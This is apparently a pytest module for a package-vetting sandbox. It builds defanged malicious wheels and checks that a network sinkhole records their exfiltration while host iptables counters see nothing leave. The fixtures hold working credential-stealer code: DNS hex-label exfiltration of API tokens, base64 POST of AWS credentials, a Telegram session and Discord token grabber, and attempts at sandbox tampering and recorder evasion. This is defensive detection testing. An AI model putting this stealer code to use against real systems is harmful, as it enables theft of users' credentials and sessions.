"""The sinkhole end to end, in the real sandbox: capture, proof of exfiltration, and
that nothing leaves.

Fixtures are defanged replicas built by the tests: they target only ``*.invalid``
/ ``*.example`` names and TEST-NET addresses, run only inside the sandbox (the
tests hand their paths to ``pkgsandbox vet``), and every run randomises what a
shortcut could key on (which secret, label sizes, domains, addresses).

While this module runs, host-side iptables counters (raw PREROUTING and OUTPUT,
every interface, IPv4 and IPv6) watch for any packet that carries this session's
marker — every fixture puts it in what it sends: DNS names, SNI, HTTP headers,
datagrams — or that goes to this session's port, where the fixtures that send
no payload connect. The last test asserts the counters stayed at zero; a control
run (a container on Docker's default bridge sending the same kind of traffic to a
listener of the test's own on the bridge's gateway) shows that the same check
catches traffic that does leave a container.
"""

from __future__ import annotations

import contextlib
import ipaddress
import json
import re
import secrets
import shutil
import socket
import struct
import subprocess
import textwrap
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from sandbox.models import NetworkCapture, Phase, PhaseStatus, Report, Severity, Verdict
from sandbox.runner.engine import LABEL, LABEL_DEADLINE, LABEL_OWNER
from sandbox.tempdirs import owner_label
from tests.conftest import recorder, run_cli
from tests.fixtures.builders import (
    Randomised,
    build_wheel,
    ctypes_connect_source,
    flipped_path_source,
    sendmmsg_source,
)

pytestmark = pytest.mark.usefixtures("sandbox_image", "no_leaks")


def _port() -> int:
    """A random port below the host's ephemeral range: no reply to one of the host's
    own connections can be addressed to it."""
    try:
        low = int(Path("/proc/sys/net/ipv4/ip_local_port_range").read_text().split()[0])
    except (OSError, ValueError, IndexError):
        low = 32768
    return 10000 + secrets.randbelow(max(1000, low - 10000))


MARKER = f"lk{secrets.token_hex(5)}"  # in every byte the fixtures send
LEAK_PORT = _port()  # where the payload-less fixtures connect


# ---------------------------------------------------------------------- the host-side check


class LeakCheck:
    """Counting rules in the host's raw table (PREROUTING: everything that arrives
    from any interface, containers' included; OUTPUT: everything the host sends):
    packets carrying *marker*, and TCP/UDP packets to *port*."""

    RULES = ("marker", "udp port", "tcp port")

    def __init__(self, marker: str, port: int) -> None:
        self.marker = marker
        self.port = port
        self.chain = f"PSLEAK-{secrets.token_hex(3)}"
        self.tools = [t for t in ("iptables", "ip6tables") if shutil.which(t)]

    def _run(self, tool: str, *args: str, check: bool = True) -> str:
        proc = subprocess.run([tool, "-w", "-t", "raw", *args], capture_output=True, text=True)
        if check and proc.returncode != 0:
            raise RuntimeError(f"{tool} {' '.join(args)}: {proc.stderr.strip()}")
        return proc.stdout

    def install(self) -> None:
        for tool in self.tools:
            self._run(tool, "-N", self.chain)
            # rules without a target only count, so every packet meets all three
            self._run(tool, "-A", self.chain, "-m", "string", "--string", self.marker, "--algo", "bm")
            self._run(tool, "-A", self.chain, "-p", "udp", "--dport", str(self.port))
            self._run(tool, "-A", self.chain, "-p", "tcp", "--dport", str(self.port))
            for hook in ("PREROUTING", "OUTPUT"):
                self._run(tool, "-I", hook, "1", "-j", self.chain)

    def counts(self) -> dict[str, int]:
        """Packets per rule, summed over IPv4 and IPv6."""
        total = dict.fromkeys(self.RULES, 0)
        for tool in self.tools:
            lines = self._run(tool, "-L", self.chain, "-v", "-x", "-n").splitlines()[2:]
            for name, line in zip(self.RULES, lines, strict=True):
                total[name] += int(line.split()[0])
        return total

    def remove(self) -> None:
        for tool in self.tools:
            for hook in ("PREROUTING", "OUTPUT"):
                self._run(tool, "-D", hook, "-j", self.chain, check=False)
            self._run(tool, "-F", self.chain, check=False)
            self._run(tool, "-X", self.chain, check=False)


def _can_check() -> str | None:
    if not shutil.which("iptables"):
        return "the host has no iptables"
    proc = subprocess.run(
        ["iptables", "-w", "-t", "raw", "-L", "OUTPUT", "-n"], capture_output=True, text=True
    )
    return None if proc.returncode == 0 else f"cannot read the host's raw table: {proc.stderr.strip()[:100]}"


@pytest.fixture(scope="module")
def leak_check() -> Iterator[LeakCheck]:
    why = _can_check()
    if why:
        pytest.skip(f"host-side leak check unavailable ({why}; run as root)")
    check = LeakCheck(MARKER, LEAK_PORT)
    check.install()
    try:
        yield check
    finally:
        check.remove()


# ---------------------------------------------------------------------- helpers


def vet(tmp_path: Path, leak_check: LeakCheck, name: str, src: str) -> Report:
    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": src})
    _code, report = run_cli(tmp_path, str(whl))
    assert report is not None
    return report


def net_of(report: Report) -> NetworkCapture:
    assert report.network is not None and report.network.enabled, report.network
    return report.network


def output_facts(report: Report) -> dict[str, Any]:
    imp = next(p for p in report.phases if p.phase is Phase.IMPORT)
    m = re.search(r"FACTS (\{.*\})", imp.output_tail)
    assert m, imp.output_tail
    facts: dict[str, Any] = json.loads(m.group(1))
    return facts


def finding(report: Report, rule: str) -> Any:
    found = [f for f in report.findings if f.rule_id == rule]
    assert found, f"no {rule}: {[(f.rule_id, f.message[:80]) for f in report.findings]}"
    return found[0]


# ---------------------------------------------------------------------- acceptance


def test_token_exfiltrated_by_dns_hex_labels_is_proven(tmp_path: Path, leak_check: LeakCheck) -> None:
    r = Randomised()
    var = r.rng.choice(["GITHUB_TOKEN", "OPENAI_API_KEY", "HF_TOKEN", "NPM_TOKEN"])
    src = textwrap.dedent(f"""\
        import json, os, random, socket, struct
        data = os.environ.get({var!r}, "none").encode().hex()
        labels, i = [], 0
        while i < len(data):  # random label sizes, as exfiltration code splits
            n = random.randrange(8, 64)
            labels.append(data[i:i + n])
            i += n
        name = ".".join(labels + [{MARKER!r}, {r.domain().replace(".example", ".invalid")!r}])
        try:
            socket.getaddrinfo(name, 443)
        except OSError:
            pass
        # the same through a resolver on 127.x, asked directly
        q = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + b"".join(
            bytes([len(p)]) + p.encode() for p in ("probe", {MARKER!r}, "invalid")) + b"\\0\\0\\1\\0\\1"
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(3)
        s.sendto(q, ("127.0.0.53", 53))
        reply = s.recv(512)
        ok = reply[:2] == b"\\0\\7" and reply[7] == 1
        print("FACTS " + json.dumps({{"stub_answered": ok}}))
        """)
    report = vet(tmp_path, leak_check, r.name("dnsx"), src)
    net = net_of(report)
    x = next(x for x in net.exfiltration if x.canary == var)
    assert x.channel == "dns" and x.location == f"env {var}" and "hex" in x.encoding
    assert x.phase is Phase.IMPORT and x.pid and x.process and MARKER in (x.host or "")
    assert report.verdict is Verdict.MALICIOUS
    f = finding(report, "PS010")
    assert f.severity is Severity.CRITICAL and f.phase is Phase.IMPORT
    assert any(var in e.detail or e.path == f"env {var}" for e in f.evidence)
    queries = [q for q in net.dns if MARKER in q.name]
    assert {q.qtype for q in queries} >= {"A"} and all(q.answer for q in queries if q.qtype == "A")
    stub = [q for q in queries if q.name.startswith("probe.")]
    assert stub and output_facts(report)["stub_answered"], "a resolver on 127.x must reach the sinkhole too"
    assert "PS011" in {f.rule_id for f in report.findings}


def test_aws_credentials_posted_base64_over_http_is_proven(tmp_path: Path, leak_check: LeakCheck) -> None:
    r = Randomised()
    host, path = r.address(), f"/{r.name('u')}"
    src = textwrap.dedent(f"""\
        import base64, json, os, socket
        body = base64.b64encode(open(os.path.expanduser("~/.aws/credentials"), "rb").read())
        s = socket.create_connection(({host!r}, {LEAK_PORT}), timeout=5)
        s.sendall(b"POST {path} HTTP/1.1\\r\\nHost: {MARKER}.example\\r\\nContent-Type: text/plain\\r\\n"
                  b"Content-Length: " + str(len(body)).encode() + b"\\r\\n\\r\\n" + body)
        reply = s.recv(200)
        s.close()
        print("FACTS " + json.dumps({{"reply": reply.split(b"\\r\\n")[0].decode()}}))
        """)
    report = vet(tmp_path, leak_check, r.name("awsx"), src)
    net = net_of(report)
    conn = next(c for c in net.connections if c.destination == f"{host}:{LEAK_PORT}")
    assert conn.protocol == "http" and conn.pid and conn.process
    req = conn.http[0]
    assert (req.method, req.target, req.host) == ("POST", path, f"{MARKER}.example") and req.complete
    assert req.body_bytes > 100 and not req.body_truncated
    xs = [x for x in net.exfiltration if x.location == "~/.aws/credentials"]
    assert {x.canary for x in xs} == {"aws_access_key_id", "aws_secret_access_key"}
    assert all(
        x.channel == "http" and x.destination == f"{host}:{LEAK_PORT}" and "base64" in x.encoding for x in xs
    )
    assert output_facts(report)["reply"] == "HTTP/1.1 200 OK"  # answered, so malware goes on sending
    # read at import, and again in the library's second session (exercise)
    assert {rd.location for rd in net.honeytoken_reads} == {"~/.aws/credentials"}
    assert {"PS010", "PS012", "PS001", "PS002"} <= {f.rule_id for f in report.findings}
    assert report.findings[0].rule_id == "PS010"


def test_a_zipped_telegram_session_and_a_linux_discord_token_are_proven(
    tmp_path: Path, leak_check: LeakCheck
) -> None:
    # The Linux desktop stealer: it looks for a directory named like Telegram within
    # three levels of HOME, zips its tdata with a text dump of the AWS credentials
    # (deflated: the dump's bytes are not sent as they are; tdata's random ones may go
    # in stored blocks) and posts the archive as a multipart upload; then it greps
    # Discord's leveldb for a token. The stores are where the Linux clients keep them.
    r = Randomised()
    host, path = r.address(), f"/bot{r.name('b')}/sendDocument"
    src = textwrap.dedent(f"""\
        import io, json, os, re, socket, zipfile
        home = os.path.expanduser("~")
        found = None
        for top, dirs, files in os.walk(home):
            if top.count(os.sep) - home.count(os.sep) >= 3:
                dirs[:] = []
            if "telegram" in top.lower() and os.path.isdir(os.path.join(top, "tdata")):
                found = os.path.join(top, "tdata")
                break
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            for d, _, names in os.walk(found):
                for n in names:
                    z.write(os.path.join(d, n), os.path.relpath(os.path.join(d, n), found))
            z.writestr("passwords.txt", open(os.path.join(home, ".aws/credentials")).read())
        archive = buf.getvalue()
        ldb = os.path.join(home, ".config/discord/Local Storage/leveldb")
        tokens = []
        for n in os.listdir(ldb):
            if n.endswith(".ldb"):
                data = open(os.path.join(ldb, n), "rb").read()
                tokens += re.findall(rb"[\\w-]{{24}}\\.[\\w-]{{6}}\\.[\\w-]{{27}}", data)
        part = b'Content-Disposition: form-data; name="document"; filename="a.zip"'
        body = (b"--b0\\r\\n" + part + b"\\r\\n\\r\\n"
                + archive + b"\\r\\n--b0\\r\\nContent-Disposition: form-data; name=\\"caption\\"\\r\\n\\r\\n"
                + json.dumps([t.decode() for t in tokens]).encode() + b"\\r\\n--b0--\\r\\n")
        s = socket.create_connection(({host!r}, {LEAK_PORT}), timeout=5)
        s.sendall(b"POST {path} HTTP/1.1\\r\\nHost: {MARKER}.example\\r\\n"
                  b"Content-Type: multipart/form-data; boundary=b0\\r\\n"
                  b"Content-Length: " + str(len(body)).encode() + b"\\r\\n\\r\\n" + body)
        s.recv(200)
        s.close()
        print("FACTS " + json.dumps({{"tdata": found, "zipped": len(archive), "tokens": len(tokens)}}))
        """)
    report = vet(tmp_path, leak_check, r.name("tgsteal"), src)
    facts = output_facts(report)
    assert facts["tdata"].endswith("/.local/share/TelegramDesktop/tdata") and facts["tokens"] == 1, facts
    net = net_of(report)
    default = [x for x in net.exfiltration if x.pass_name == "default"]
    xs = {x.location: x for x in default}
    tg = xs.get("~/.local/share/TelegramDesktop/tdata/key_datas")
    assert tg is not None and tg.destination == f"{host}:{LEAK_PORT}", xs
    assert "~/.config/discord/Local Storage/leveldb/000005.ldb" in xs, xs
    aws = xs.get("~/.aws/credentials")
    assert aws is not None and "zip" in aws.encoding, xs  # only the archive's member holds it
    assert report.findings[0].rule_id == "PS010" and report.verdict is Verdict.MALICIOUS


def test_tls_sni_raw_udp_and_ctypes_connect_are_recorded(tmp_path: Path, leak_check: LeakCheck) -> None:
    r = Randomised()
    sni = f"{MARKER}.{r.domain().replace('.example', '.invalid')}"
    udp_host, c_host = r.address(), r.address()
    v6_host = f"2001:db8::{r.rng.randrange(1, 0xFFFF):x}"
    payload = f"{MARKER}-{secrets.token_hex(4)}"
    src = textwrap.dedent(f"""\
        import json, os, socket, ssl, subprocess
        facts = {{}}
        try:
            raw = socket.create_connection(({sni!r}, 443), timeout=5)
            ctx = ssl.create_default_context()
            ctx.set_alpn_protocols(["h2", "http/1.1"])
            ctx.wrap_socket(raw, server_hostname={sni!r})
        except Exception as exc:
            facts["tls"] = type(exc).__name__
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.sendto({payload.encode()!r}, ({udp_host!r}, {LEAK_PORT}))
        try:  # IPv6 reaches the sinkhole too (ip6tables)
            s6 = socket.create_connection(({v6_host!r}, {LEAK_PORT}), timeout=5)
            s6.sendall({payload.encode()!r})
            s6.close()
        except OSError as exc:
            facts["v6"] = str(exc)
        # the candidate can neither see nor change the rules
        for cmd in (["/usr/sbin/iptables", "-t", "nat", "-F"], ["ip", "link", "set", "eth0", "down"],
                    ["ip", "route", "del", "default"]):
            try:
                facts[cmd[0]] = subprocess.run(cmd, capture_output=True, text=True).returncode
            except OSError as exc:
                facts[cmd[0]] = str(exc)
        st = dict(l.split(":", 1) for l in open("/proc/self/status") if ":" in l)
        tracer = facts["tracer"] = int(st["TracerPid"])
        if tracer:  # strace (under eBPF nothing traces the candidate)
            tst = dict(l.split(":", 1) for l in open(f"/proc/{{tracer}}/status") if ":" in l)
            facts["tracer_capeff"] = tst["CapEff"].strip()
        facts["cap_bnd"] = st["CapBnd"].strip()
        facts["dockerenv"] = os.path.exists("/.dockerenv")
        facts["cgroup"] = open("/proc/self/cgroup").read()
        print("FACTS " + json.dumps(facts))
        """) + ctypes_connect_source(c_host, LEAK_PORT)
    report = vet(tmp_path, leak_check, r.name("mixed"), src)
    net = net_of(report)
    tls = next(c for c in net.connections if c.tls is not None)
    assert tls.tls is not None and tls.tls.sni == sni and tls.tls.alpn == ("h2", "http/1.1")
    assert tls.host == sni and tls.destination.endswith(":443")
    assert any(q.name == sni for q in net.dns)
    gram = next(d for d in net.datagrams if MARKER in d.data)
    assert gram.destination == f"{udp_host}:{LEAK_PORT}" and gram.pid and gram.bytes == len(payload)
    ctc = next(c for c in net.connections if c.destination == f"{c_host}:{LEAK_PORT}")
    assert ctc.protocol == "empty" and ctc.pid
    facts = output_facts(report)
    assert "v6" not in facts, facts
    v6 = next(c for c in net.connections if c.destination == f"[{v6_host}]:{LEAK_PORT}")
    assert v6.bytes == len(payload) and MARKER in v6.data
    assert "tls" not in facts, facts  # the sandbox trusts the run's CA: the handshake completes
    assert tls.tls.intercepted and tls.tls.negotiated_alpn == "http/1.1" and tls.protocol == "tls"
    assert facts["/usr/sbin/iptables"] != 0 and facts["ip"] != 0
    assert int(facts["cap_bnd"], 16) == 0
    if recorder() == "ebpf":
        assert facts["tracer"] == 0, facts
    else:
        assert not int(facts["tracer_capeff"], 16) & (1 << 12), "strace must not hold NET_ADMIN"
    assert facts["dockerenv"] is False and "docker" not in facts["cgroup"]
    # and after the failed tampering, traffic still reached the sinkhole (the datagram above came later)
    imp = next(p for p in report.phases if p.phase is Phase.IMPORT)
    assert imp.status is PhaseStatus.OK


def test_datagrams_sent_by_sendmmsg_are_recorded_with_their_destination(
    tmp_path: Path, leak_check: LeakCheck
) -> None:
    # sendmmsg (several datagrams in one call, through libc: Python has no wrapper)
    # must be as visible to the recorder as sendto: the destination of a datagram is
    # known only from the trace (the sinkhole's REDIRECT hides it from the listener)
    r = Randomised()
    host = r.address()
    payload = f"{MARKER}-{secrets.token_hex(4)}"
    src = sendmmsg_source([(host, LEAK_PORT, payload.encode())] * 2)
    report = vet(tmp_path, leak_check, r.name("mmsg"), src)
    net = net_of(report)
    grams = [d for d in net.datagrams if MARKER in d.data]
    assert grams, [d.data[:40] for d in net.datagrams]
    assert all(d.destination == f"{host}:{LEAK_PORT}" and d.pid for d in grams), grams
    sends = [e for e in report.events if e.syscall == "sendmmsg"]
    assert sends and all(e.address and e.address.render() == f"{host}:{LEAK_PORT}" for e in sends), sends
    assert any(MARKER in (e.data or "") for e in sends), sends


def test_each_datagram_of_one_sendmmsg_is_recorded_with_its_own_destination(
    tmp_path: Path, leak_check: LeakCheck
) -> None:
    # Each message of a sendmmsg carries its own name: the first may go to loopback (or
    # name no peer at all) while the next ones go out. Both recorders kept only the
    # first message's (the eBPF program read no other; the strace parser trusted only
    # the first name and joined every message's bytes), so the datagrams sent out were
    # recorded under the loopback destination.
    r = Randomised()
    hosts = [r.address(), r.address()]
    payloads = [f"{MARKER}-{i}-{secrets.token_hex(3)}" for i in range(2)]
    src = sendmmsg_source(
        [("127.0.0.1", LEAK_PORT, b"ping")]
        + [(h, LEAK_PORT, p.encode()) for h, p in zip(hosts, payloads, strict=True)]
    )
    name = r.name("mmsg")
    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": src})
    _code, report = run_cli(tmp_path, str(whl))
    assert report is not None
    sends = [e for e in report.events if e.syscall == "sendmmsg"]
    seen = {(e.address.render() if e.address else None, e.data) for e in sends}
    for host, payload in zip(hosts, payloads, strict=True):
        assert (f"{host}:{LEAK_PORT}", payload) in seen, seen
    assert (f"127.0.0.1:{LEAK_PORT}", "ping") in seen, seen
    rules = {f.rule_id for f in report.findings}
    assert "PS002" in rules, rules
    # the sinkhole's datagrams are attributed to their own destinations too
    net = net_of(report)
    grams = {d.data: d.destination for d in net.datagrams if MARKER in d.data}
    assert grams == {p: f"{h}:{LEAK_PORT}" for h, p in zip(hosts, payloads, strict=True)}, grams


def test_a_connect_address_rewritten_during_the_call_still_names_the_peer_connected(
    tmp_path: Path, leak_check: LeakCheck
) -> None:
    # The eBPF recorder reads a connect's sockaddr from the caller's memory at the
    # call's exit, after the kernel copied it: a thread that rewrites it meanwhile
    # shows the recorder another peer than the one connected. To make the call last,
    # the real peer is the fixture's own loopback listener with a full accept queue:
    # the SYN is dropped and each connect sleeps until its 30 ms send timeout
    # (EINPROGRESS). The decoy is the next loopback port, where nothing listens: refused
    # at once, as is any mix of the two (not the sinkhole: flooded, it too lets SYNs wait).
    r = Randomised()
    port = 20000 + r.rng.randrange(0, 9000)
    decoy_host, decoy_port = "127.0.0.1", port + 1

    def sockaddr(ip: str, port: int) -> bytes:
        return struct.pack("=H", 2) + struct.pack("!H", port) + socket.inet_aton(ip) + bytes(8)

    real, decoy = sockaddr("127.0.0.1", port), sockaddr(decoy_host, decoy_port)
    loop = f"""\
        import socket, struct
        lst = socket.socket()
        lst.bind(("127.0.0.1", {port}))
        lst.listen(0)
        held = socket.create_connection(("127.0.0.1", {port}))  # the queue is full: never accepted
        # until 20 connects copied the real peer (each waits): a busy scheduler gives
        # this loop few turns, and the flipping thread decides which peer each one copies
        end, waited = time.monotonic() + 30, 0
        while waited < 20 and time.monotonic() < end:
            s = socket.socket()
            s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDTIMEO, struct.pack("ll", 0, 30000))
            if libc.connect(s.fileno(), buf, 16) != 0 and ctypes.get_errno() == 115:
                waited += 1
            s.close()
        print("waited", waited)
        """
    src = flipped_path_source(real, decoy, loop)
    name = r.name("dialer")
    whl = build_wheel(tmp_path, name, "1.0", {f"{name}/__init__.py": src})
    _code, report = run_cli(tmp_path, str(whl), "--recorder", "ebpf", "--phases", "import")
    assert report is not None
    # only the real peer leaves a connect waiting (EINPROGRESS); the decoy's (or a mix
    # of the two) is answered or refused at once
    waited = [e for e in report.events if e.syscall == "connect" and e.errno == "EINPROGRESS"]
    assert waited, [p.output_tail for p in report.phases]
    lies = [e for e in waited if e.address is None or e.address.render() != f"127.0.0.1:{port}"]
    assert not lies, f"{len(lies)} of {len(waited)} waiting connects recorded under another peer: {lies[0]}"
    # what the caller's memory showed stays in the evidence
    raced = [e for e in waited if "changed in the caller's memory" in (e.flags or "")]
    assert raced, f"no connect raced in {len(waited)}: the test proves nothing"


def test_benign_package_has_an_empty_network_section(tmp_path: Path, leak_check: LeakCheck) -> None:
    r = Randomised()
    name = r.name("calm")
    report = vet(tmp_path, leak_check, name, "import json, os\nVALUE = json.dumps({'a': os.sep})\n")
    net = net_of(report)
    assert net.quiet and not net.exfiltration and not net.honeytoken_reads and net.dropped == 0
    assert net.honeytokens, "honeytokens were planted"
    assert report.verdict is Verdict.CLEAN, (report.verdict_reason, report.findings)


def test_hostile_clients_are_bounded_and_never_block_the_run(tmp_path: Path, leak_check: LeakCheck) -> None:
    r = Randomised()
    big_host, many_host, slow_host, junk_host = r.address(), r.address(), r.address(), r.address()
    src = textwrap.dedent(f"""\
        import os, socket, threading, time
        mark = {MARKER!r}.encode()
        # many connections at once, kept open while the rest goes on
        socks = []
        for _ in range(600):
            try:
                s = socket.create_connection(({many_host!r}, {LEAK_PORT}), timeout=3)
                socks.append(s)
                s.send(mark)
            except OSError:
                pass  # the sinkhole closes the quietest flows when it is full
        # a huge body
        s = socket.create_connection(({big_host!r}, {LEAK_PORT}), timeout=10)
        size = 20 << 20
        s.sendall(b"POST /big HTTP/1.1\\r\\nHost: " + mark
                  + b".example\\r\\nContent-Length: %d\\r\\n\\r\\n" % size)
        chunk = mark * (65536 // len(mark))
        sent = 0
        while sent < size:
            part = chunk[: size - sent]
            s.sendall(part)
            sent += len(part)
        s.settimeout(10)
        s.recv(100)
        # malformed DNS, to the configured resolver and to one on 127.x
        resolver = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        junks = (b"", b"\\x01", mark, b"\\x12\\x34\\x01\\x00\\x00\\x01" + b"\\xff" * 40,
                 os.urandom(300) + mark)
        for junk in junks:
            for dst in (resolver, "127.0.0.53"):
                u.sendto(junk, (dst, 53))
        # binary garbage on 443
        g = socket.create_connection(({junk_host!r}, 443), timeout=3)
        g.sendall(b"\\x16\\x03\\x01\\xff\\xff" + os.urandom(4000) + mark)
        g.close()
        for s in socks:
            s.close()
        # a slowloris client that never finishes its request
        def slow():
            c = socket.create_connection(({slow_host!r}, {LEAK_PORT}), timeout=3)
            c.send(b"GET /" + mark + b" HTTP/1.1\\r\\nHost: x.invalid\\r\\n")
            while True:
                c.send(b"X")
                time.sleep(0.05)
        threading.Thread(target=slow, daemon=True).start()
        time.sleep(0.5)
        """)
    t0 = time.monotonic()
    report = vet(tmp_path, leak_check, r.name("hostile"), src)
    took = time.monotonic() - t0
    assert took < 120, took
    imp = next(p for p in report.phases if p.phase is Phase.IMPORT)
    assert imp.status is PhaseStatus.OK and imp.trace_complete
    net = net_of(report)
    assert net.truncated
    big = max((c for c in net.connections if c.destination.startswith(big_host + ":")), key=lambda c: c.bytes)
    assert big.bytes >= 20 << 20 and big.captured == 64 * 1024 and big.truncated
    assert big.http[0].body_bytes == 20 << 20 and big.http[0].body_truncated
    # each phase's capture is bounded (an extra pass keeps its own, and so does the
    # library's second session in the exercise phase, also bounded)
    many = [
        c
        for c in net.connections
        if c.destination.startswith(many_host + ":") and c.pass_name == "default" and c.phase is Phase.IMPORT
    ]
    assert 0 < len(many) <= 600 and any(c.close_reason == "evicted" and c.truncated for c in many)
    malformed = [q for q in net.dns if q.malformed]
    assert len(malformed) >= 6
    junk = next(c for c in net.connections if c.destination == f"{junk_host}:443")
    assert junk.tls is not None and junk.tls.error
    slow = next(c for c in net.connections if c.destination.startswith(slow_host + ":"))
    assert slow.http and not slow.http[0].complete and slow.truncated


# ---------------------------------------------------------------------- nothing left


def _bridge_gateway(client: Any) -> str:
    """The default bridge's IPv4 gateway. The engine's IPAM config sometimes lists only
    the subnet (seen once right after dockerd started): the gateway is then its first
    host address, as the engine assigns it."""
    cfg = client.networks.get("bridge").attrs["IPAM"]["Config"] or []
    for c in cfg:
        if c.get("Gateway") and ":" not in c["Gateway"]:
            return str(c["Gateway"])
    for c in cfg:
        if c.get("Subnet") and ":" not in c["Subnet"]:
            return str(next(ipaddress.ip_network(c["Subnet"]).hosts()))
    raise AssertionError(f"the default bridge has no IPv4 subnet: {cfg}")


def test_control_the_check_catches_traffic_that_leaves_a_container(
    docker_client: Any, sandbox_image: Any
) -> None:
    """A container on Docker's default bridge sends the same kind of traffic to a
    listener of this test on the bridge's gateway: the same check must count it."""
    why = _can_check()
    if why:
        pytest.skip(f"host-side leak check unavailable ({why})")
    marker, port = f"lk{secrets.token_hex(5)}", _port()
    gateway = _bridge_gateway(docker_client)
    got: dict[str, bytes] = {}
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind((gateway, port))
    udp.settimeout(30)
    tcp = socket.socket()
    tcp.bind((gateway, port))
    tcp.listen(1)
    tcp.settimeout(30)

    def serve() -> None:
        try:
            got["udp"] = udp.recv(100)
            conn, _ = tcp.accept()
            with conn:
                got["tcp"] = conn.recv(100)
        except OSError:
            pass

    server = threading.Thread(target=serve, daemon=True)
    server.start()
    check = LeakCheck(marker, port)
    check.install()
    code = (
        f"import socket; u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
        f"u.sendto(b'{marker}', ('{gateway}', {port})); import time; time.sleep(0.2); "
        f"t = socket.create_connection(('{gateway}', {port}), timeout=10); t.sendall(b'{marker}'); "
        "t.close()"
    )
    name = f"pkgsandbox-control-{secrets.token_hex(4)}"
    try:
        docker_client.containers.run(
            sandbox_image.tag,
            ["python3", "-c", code],
            name=name,
            network_mode="bridge",
            remove=True,
            labels={
                LABEL: "control",
                LABEL_OWNER: owner_label(),
                LABEL_DEADLINE: str(int(time.time() + 120)),
            },
        )
        server.join(30)
        counts = check.counts()
    finally:
        check.remove()
        udp.close()
        tcp.close()
        with contextlib.suppress(Exception):
            docker_client.containers.get(name).remove(force=True)
    assert got.get("udp") == marker.encode() and got.get("tcp") == marker.encode(), got
    assert all(n > 0 for n in counts.values()), counts  # every rule of the check can fire


def test_zz_nothing_from_a_sandbox_reached_the_host_network(leak_check: LeakCheck) -> None:
    """Runs last in this module: every fixture above sent the marker or used the
    port, from inside the sandbox, thousands of times; the host saw none of it."""
    assert leak_check.counts() == dict.fromkeys(LeakCheck.RULES, 0)
